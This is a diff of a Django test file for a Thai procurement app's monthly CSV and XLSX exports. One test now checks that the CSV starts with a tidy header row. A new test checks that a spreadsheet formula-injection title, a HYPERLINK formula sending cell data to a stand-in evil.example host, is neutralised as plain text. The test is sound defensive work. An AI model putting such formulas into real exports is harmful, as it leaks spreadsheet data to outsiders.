@@ -79,16 +79,18 @@ def test_monthly_page_columns_in_official_order(client, make):
     assert "งานเดือนมกราคม" not in body
 
 
-def test_monthly_csv_and_xlsx_have_title_and_columns(client, make):
+def test_monthly_csv_is_tidy_and_xlsx_keeps_the_title(client, make):
     award = make.awarded(contract_date=datetime.date(2025, 12, 5), amounts=("950000.00", "990000.50"))
     response = client.get(reverse("procurement:monthly_csv", args=[2568, 12]))
+    assert response["Content-Disposition"] == 'attachment; filename="sor-kor-ror-1-2568-12.csv"'
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
-    assert rows[0] == ["สรุปผลการดำเนินการจัดซื้อจัดจ้างในรอบเดือน ธันวาคม 2568"]
-    assert rows[1] == OFFICIAL_COLUMNS
-    assert rows[2][0] == "1" and rows[2][1] == award.project.title
-    assert rows[2][3] == "1,000,000.00" and "990,000.50" in rows[2][5]
-    assert "บริษัท ก จำกัด ราคาที่ตกลง 950,000.00 บาท" == rows[2][6]
-    assert rows[2][8].startswith(f"สัญญาเลขที่ {award.contract_number} ลงวันที่ 5 ธันวาคม 2568")
+    # Open data: the header row first, every row as wide as the header (the title is on the page).
+    assert rows[0] == OFFICIAL_COLUMNS
+    assert {len(row) for row in rows} == {len(OFFICIAL_COLUMNS)}
+    assert rows[1][0] == "1" and rows[1][1] == award.project.title
+    assert rows[1][3] == "1,000,000.00" and "990,000.50" in rows[1][5]
+    assert "บริษัท ก จำกัด ราคาที่ตกลง 950,000.00 บาท" == rows[1][6]
+    assert rows[1][8].startswith(f"สัญญาเลขที่ {award.contract_number} ลงวันที่ 5 ธันวาคม 2568")
 
     response = client.get(reverse("procurement:monthly_xlsx", args=[2568, 12]))
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
@@ -97,6 +99,18 @@ def test_monthly_csv_and_xlsx_have_title_and_columns(client, make):
     assert values[0][0] == "สรุปผลการดำเนินการจัดซื้อจัดจ้างในรอบเดือน ธันวาคม 2568"
     assert values[2] == OFFICIAL_COLUMNS
     assert values[3][1] == award.project.title
+
+
+def test_monthly_exports_never_run_a_title_as_a_formula(client, make):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
+    make.awarded(title=hostile, winner="@SUM(1+1)")
+    rows = list(csv.reader(io.StringIO(
+        client.get(reverse("procurement:monthly_csv", args=[2568, 12])).content.decode("utf-8-sig"))))
+    assert rows[1][1] == "'" + hostile
+    sheet = load_workbook(io.BytesIO(client.get(reverse("procurement:monthly_xlsx", args=[2568, 12])).content)).active
+    title_cell = sheet.cell(4, 2)
+    assert title_cell.value == hostile and title_cell.data_type == "s"
+    assert sheet.cell(4, 7).data_type == "s"
 
 
 @pytest.mark.parametrize("size", [2, 20])
